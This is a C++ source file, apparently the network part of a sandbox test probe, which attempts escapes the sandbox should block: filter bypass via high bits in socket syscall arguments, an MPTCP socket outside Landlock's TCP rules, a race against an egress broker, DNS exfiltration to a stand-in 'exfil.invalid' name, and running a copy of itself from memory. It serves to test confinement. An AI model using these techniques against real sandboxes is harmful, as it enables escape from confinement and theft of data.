// gander_probe's network attempts (see probe.cc for the exit status and the report lines):
// sockets the sandbox must refuse or confine, races against the egress broker, DNS exfiltration,
// and a copy of the probe run from memory.
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/netlink.h>
#include <linux/rtnetlink.h>
#include <netinet/in.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <sys/un.h>
#include <unistd.h>

#include <atomic>
#include <chrono>
#include <string>
#include <thread>
#include <vector>

#include "probe.h"

namespace gander::probe {

// --- network -----------------------------------------------------------------------------

namespace {

// The IPv4 address IP:PORT (PORT as written on the command line); false when IP is not one.
bool Ipv4(const char* ip, const char* port, sockaddr_in& addr) {
  addr = {};
  addr.sin_family = AF_INET;
  addr.sin_port = htons(static_cast<uint16_t>(atoi(port)));
  return inet_pton(AF_INET, ip, &addr.sin_addr) == 1;
}

}  // namespace

int DoTcp(const char* host, const char* port) {
  int fd = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
  if (!Check("socket AF_INET", fd)) return kFailed;
  timeval tv{3, 0};
  setsockopt(fd, SOL_SOCKET, SO_SNDTIMEO, &tv, sizeof tv);
  sockaddr_in addr;
  if (!Ipv4(host, port, addr)) {
    fprintf(stderr, "probe: bad IPv4 address %s\n", host);
    return kUsage;
  }
  int rc = connect(fd, reinterpret_cast<sockaddr*>(&addr), sizeof addr);
  bool ok = Check(Fmt("connect tcp %s:%s", host, port).c_str(), rc);
  close(fd);
  return Result(ok);
}

int DoUdp(const char* host, const char* port) {
  int fd = socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0);
  if (!Check("socket AF_INET dgram", fd)) return kFailed;
  sockaddr_in addr;
  if (!Ipv4(host, port, addr)) return kUsage;
  static const char kMsg[] = "gander-probe-udp";
  ssize_t n = sendto(fd, kMsg, sizeof kMsg - 1, 0, reinterpret_cast<sockaddr*>(&addr), sizeof addr);
  close(fd);
  return Result(Check(Fmt("sendto udp %s:%s", host, port).c_str(), n));
}

// A packet socket: raw frames on the host's devices.
int DoPacket() {
  int fd = socket(AF_PACKET, SOCK_RAW | SOCK_CLOEXEC, htons(0x0003 /* ETH_P_ALL */));
  bool ok = Check("socket AF_PACKET", fd);
  if (fd >= 0) close(fd);
  return Result(ok);
}

// A vsock socket (to the hypervisor, past the network namespace) whose family has bit 32 set
// in the 64-bit register: the kernel reads an int and sees AF_VSOCK, so a filter comparing all
// 64 bits would let it through. glibc's syscall() passes the register unchanged.
int DoVsockHighBits() {
  const uint64_t family = AF_VSOCK | (uint64_t{1} << 32);
  long fd = syscall(SYS_socket, family, SOCK_STREAM | SOCK_CLOEXEC, 0);
  bool ok = Check("socket AF_VSOCK | 1 << 32", fd);
  if (fd >= 0) close(static_cast<int>(fd));
  return Result(ok);
}

// socket(AF_UNIX | 1 << 32, ...) by raw syscall: the kernel reads the family as an int, so a
// filter that compares all 64 bits lets it through. Connects it to PATH (a host socket).
int DoUnixHighBits(const char* path) {
  const uint64_t family = AF_UNIX | (uint64_t{1} << 32);
  long fd = syscall(SYS_socket, family, SOCK_STREAM | SOCK_CLOEXEC, 0);
  if (!Check("socket AF_UNIX | 1 << 32", fd)) return kFailed;
  sockaddr_un addr{};
  addr.sun_family = AF_UNIX;
  if (strlen(path) >= sizeof addr.sun_path) return kUsage;
  strcpy(addr.sun_path, path);
  int rc = connect(static_cast<int>(fd), reinterpret_cast<const sockaddr*>(&addr), sizeof addr);
  bool ok = Check(Fmt("connect unix %s", path).c_str(), rc);
  close(static_cast<int>(fd));
  return Result(ok);
}

// socket(AF_INET, SOCK_STREAM, IPPROTO_MPTCP | 1 << 32) by raw syscall: an MPTCP socket, which
// Landlock's TCP rules do not cover. Making it is the escape (without namespaces).
int DoMptcpHighBits() {
  const uint64_t protocol = 262 | (uint64_t{1} << 32);
  long fd = syscall(SYS_socket, AF_INET, SOCK_STREAM | SOCK_CLOEXEC, protocol);
  bool ok = Check("socket(AF_INET, SOCK_STREAM, IPPROTO_MPTCP | 1 << 32)", fd);
  if (fd >= 0) close(static_cast<int>(fd));
  return Result(ok);
}

// The family-flip race against the egress broker: one thread flips the sockaddr's family
// between AF_UNIX and AF_INET while this one connects with it to IP:PORT (a host listener),
// at most TRIES times. A broker that continues a connect whose copy was not inet lets the
// kernel read AF_INET. The socket is the one the sandbox lets it make that Landlock covers
// least: MPTCP (high bits, then plain), else TCP. Succeeds when a connect succeeds.
int DoFamilyRace(const char* ip, const char* port, const char* tries_arg) {
  long fd = -1;
  const char* kind = "";
  uint64_t protocol = 0;
  for (auto [p, name] :
       {std::pair<uint64_t, const char*>{262 | (uint64_t{1} << 32), "MPTCP | 1 << 32"},
        {262, "MPTCP"},
        {0, "TCP"}}) {
    fd = syscall(SYS_socket, AF_INET, SOCK_STREAM | SOCK_CLOEXEC, p);
    kind = name;
    protocol = p;
    if (fd >= 0) break;
    fprintf(stderr, "probe: socket %s: %s\n", name, strerror(errno));
  }
  if (!Check(Fmt("socket %s", kind).c_str(), fd)) return kFailed;
  alignas(sockaddr_in) static unsigned char buf[sizeof(sockaddr_in)];
  sockaddr_in in;
  if (!Ipv4(ip, port, in)) return kUsage;
  memcpy(buf, &in, sizeof in);
  std::atomic<bool> stop{false};
  std::thread flipper([&] {
    auto* family = reinterpret_cast<volatile sa_family_t*>(buf);
    // Each family held about as long as the other, so the unsandboxed control (one read of
    // the address per connect) sees AF_INET on about half its tries.
    auto hold = [] {
      for (int i = 0; i < 256; ++i) asm volatile("" ::: "memory");
    };
    while (!stop.load(std::memory_order_relaxed)) {
      *family = AF_UNIX;
      hold();
      *family = AF_INET;
      hold();
    }
  });
  long tries = atol(tries_arg);
  long connected = 0, attempts = 0;
  int last = 0;
  // TRIES at least, and for a second at least: on a loaded machine the flipper can share a CPU
  // with this thread and hold one family for a whole time slice (thousands of tries), and the
  // unsandboxed control must see both families to prove anything.
  // And for 30 seconds at most: a machine so loaded that TRIES take longer (each sandboxed try
  // is a round trip through gander's monitor) ends the probe with the tries made, which it
  // reports, rather than the harness's timeout.
  const auto start = std::chrono::steady_clock::now();
  const auto until = start + std::chrono::seconds(1), bound = start + std::chrono::seconds(30);
  bool bounded = false;
  // A fresh socket per try: a failed MPTCP connect can leave its socket refusing the next.
  for (; connected == 0; ++attempts) {
    const auto now = std::chrono::steady_clock::now();
    if (attempts >= tries && now >= until) break;
    if (now >= bound) {
      bounded = true;
      break;
    }
    if (attempts > 0) {
      close(static_cast<int>(fd));
      fd = syscall(SYS_socket, AF_INET, SOCK_STREAM | SOCK_CLOEXEC, protocol);
      if (fd < 0) break;
    }
    if (connect(static_cast<int>(fd), reinterpret_cast<const sockaddr*>(buf), sizeof in) == 0) {
      ++connected;
    } else {
      last = errno;
    }
  }
  stop = true;
  flipper.join();
  if (fd >= 0) close(static_cast<int>(fd));
  fprintf(stderr, "probe: family race (%s socket): %ld tries%s, %ld connected, last errno %s\n",
          kind, attempts, bounded ? " (stopped at the 30 s bound)" : "", connected,
          last ? strerror(last) : "none");
  return Result(connected > 0);
}

// memfd_create + execveat(fd, "", ..., AT_EMPTY_PATH): a copy of this probe, run from memory
// (as `gander_probe exit0`). Succeeds when the copy ran and exited 0.
int DoMemfdExec() {
  int src = open("/proc/self/exe", O_RDONLY | O_CLOEXEC);
  if (!Check("open /proc/self/exe", src)) return kFailed;
  long fd = syscall(SYS_memfd_create, "payload", 0u);
  if (!Check("memfd_create(0)", fd)) {
    fd = syscall(SYS_memfd_create, "payload", 0x0010u /* MFD_EXEC */);
    if (!Check("memfd_create(MFD_EXEC)", fd)) return kFailed;
  }
  char chunk[65536];
  ssize_t n;
  while ((n = read(src, chunk, sizeof chunk)) > 0) {
    if (write(static_cast<int>(fd), chunk, static_cast<size_t>(n)) != n) return kFailed;
  }
  close(src);
  pid_t pid = fork();
  if (pid == 0) {
    char name[] = "gander_probe";
    char verb[] = "exit0";
    char* argv[] = {name, verb, nullptr};
    syscall(SYS_execveat, fd, "", argv, environ, AT_EMPTY_PATH);
    fprintf(stderr, "probe: execveat(memfd, AT_EMPTY_PATH): %s\n", strerror(errno));
    _exit(kFailed);
  }
  int status = 0;
  if (pid < 0 || waitpid(pid, &status, 0) != pid) return kFailed;
  bool ran = WIFEXITED(status) && WEXITSTATUS(status) == kSucceeded;
  fprintf(stderr, "probe: memfd exec: %s\n", ran ? "ok (the copy ran)" : "did not run");
  return Result(ran);
}

// listen() on an unbound TCP socket: the kernel autobinds it on 0.0.0.0 (all interfaces).
// Succeeds when it listens; prints the port.
int DoListenAutobind() {
  int fd = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
  if (!Check("socket AF_INET", fd)) return kFailed;
  bool ok = Check("listen (autobind on 0.0.0.0)", listen(fd, 1));
  sockaddr_in a{};
  socklen_t len = sizeof a;
  if (ok && getsockname(fd, reinterpret_cast<sockaddr*>(&a), &len) == 0) {
    fprintf(stderr, "probe: listening on port %d\n", ntohs(a.sin_port));
  }
  close(fd);
  return Result(ok);
}

// bind() to 0.0.0.0 (a non-loopback address), then listen. Succeeds when it listens.
int DoBindAny() {
  int fd = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
  if (!Check("socket AF_INET", fd)) return kFailed;
  sockaddr_in a{};
  a.sin_family = AF_INET;
  a.sin_addr.s_addr = htonl(INADDR_ANY);
  bool ok = Check("bind 0.0.0.0:0", bind(fd, reinterpret_cast<sockaddr*>(&a), sizeof a)) &&
            Check("listen", listen(fd, 1));
  close(fd);
  return Result(ok);
}

// A netlink route dump: succeeds when it shows a network interface other than lo (the host's).
int DoNetlink() {
  int fd = socket(AF_NETLINK, SOCK_RAW | SOCK_CLOEXEC, NETLINK_ROUTE);
  if (!Check("socket AF_NETLINK", fd)) return kFailed;
  struct {
    nlmsghdr h;
    ifinfomsg i;
  } req{};
  req.h.nlmsg_len = sizeof(req);
  req.h.nlmsg_type = RTM_GETLINK;
  req.h.nlmsg_flags = NLM_F_REQUEST | NLM_F_DUMP;
  req.i.ifi_family = AF_UNSPEC;
  if (!Check("send RTM_GETLINK", send(fd, &req, sizeof(req), 0))) return kFailed;
  int others = 0;
  bool done = false;
  char buf[32768];
  while (!done) {
    ssize_t n = recv(fd, buf, sizeof(buf), 0);
    if (!Check("recv netlink", n) || n == 0) break;
    for (nlmsghdr* h = reinterpret_cast<nlmsghdr*>(buf); NLMSG_OK(h, static_cast<size_t>(n));
         h = NLMSG_NEXT(h, n)) {
      if (h->nlmsg_type == NLMSG_DONE || h->nlmsg_type == NLMSG_ERROR) {
        done = true;
        break;
      }
      auto* info = static_cast<ifinfomsg*>(NLMSG_DATA(h));
      if (!(info->ifi_flags & 0x8 /* IFF_LOOPBACK */)) ++others;
    }
  }
  close(fd);
  fprintf(stderr, "probe: %d non-loopback interfaces visible\n", others);
  return Result(others > 0);
}

// A DNS query (UDP, to the resolv.conf nameserver, or `server`) for a made-up name carrying
// data in its labels: succeeds when any answer but REFUSED comes back (the query went out).
int DoDnsExfil(const char* server) {
  char ns[64] = {};
  if (server) {
    snprintf(ns, sizeof(ns), "%s", server);
  } else if (FILE* f = fopen("/etc/resolv.conf", "r")) {
    char line[256];
    while (fgets(line, sizeof(line), f)) {
      if (sscanf(line, "nameserver %63s", ns) == 1) break;
    }
    fclose(f);
  }
  int fd = socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0);
  if (!Check("socket AF_INET dgram", fd)) return kFailed;
  timeval tv{2, 0};
  setsockopt(fd, SOL_SOCKET, SO_RCVTIMEO, &tv, sizeof tv);
  sockaddr_in addr;
  if (!Ipv4(ns, "53", addr)) return kUsage;
  // id 0x4747, RD; one question: 6c6f6f742d6b6579.secret.exfil.invalid A IN
  static const unsigned char kQuery[] = {0x47, 0x47, 0x01, 0x00, 0,   1,   0,   0,   0,   0,   0,
                                         0,    16,   '6',  'c',  '6', 'f', '6', 'f', '7', '4', '2',
                                         'd',  '6',  'b',  '6',  '5', '7', '9', 6,   's', 'e', 'c',
                                         'r',  'e',  't',  5,    'e', 'x', 'f', 'i', 'l', 7,   'i',
                                         'n',  'v',  'a',  'l',  'i', 'd', 0,   0,   1,   0,   1};
  if (!Check("sendto dns", sendto(fd, kQuery, sizeof kQuery, 0, reinterpret_cast<sockaddr*>(&addr),
                                  sizeof addr))) {
    close(fd);
    return kFailed;
  }
  unsigned char reply[512];
  ssize_t n = recv(fd, reply, sizeof reply, 0);
  close(fd);
  if (!Check("recv dns", n) || n < 4) return kFailed;
  int rcode = reply[3] & 0xf;
  fprintf(stderr, "probe: dns rcode %d\n", rcode);
  return Result(rcode != 5);
}

namespace {

int ConnectUnix(const char* what, const sockaddr_un& addr, socklen_t len) {
  int fd = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
  if (!Check("socket AF_UNIX", fd)) return kFailed;
  int rc = connect(fd, reinterpret_cast<const sockaddr*>(&addr), len);
  bool ok = Check(what, rc);
  close(fd);
  return Result(ok);
}

}  // namespace

int DoUnix(const char* path) {
  sockaddr_un addr{};
  addr.sun_family = AF_UNIX;
  if (strlen(path) >= sizeof addr.sun_path) return kUsage;
  strcpy(addr.sun_path, path);
  return ConnectUnix(Fmt("connect unix %s", path).c_str(), addr, sizeof addr);
}

int DoAbstract(const char* name) {
  sockaddr_un addr{};
  addr.sun_family = AF_UNIX;
  size_t len = strlen(name);
  if (len + 1 >= sizeof addr.sun_path) return kUsage;
  memcpy(addr.sun_path + 1, name, len);
  return ConnectUnix(Fmt("connect abstract @%s", name).c_str(), addr,
                     static_cast<socklen_t>(offsetof(sockaddr_un, sun_path) + 1 + len));
}

}  // namespace gander::probe
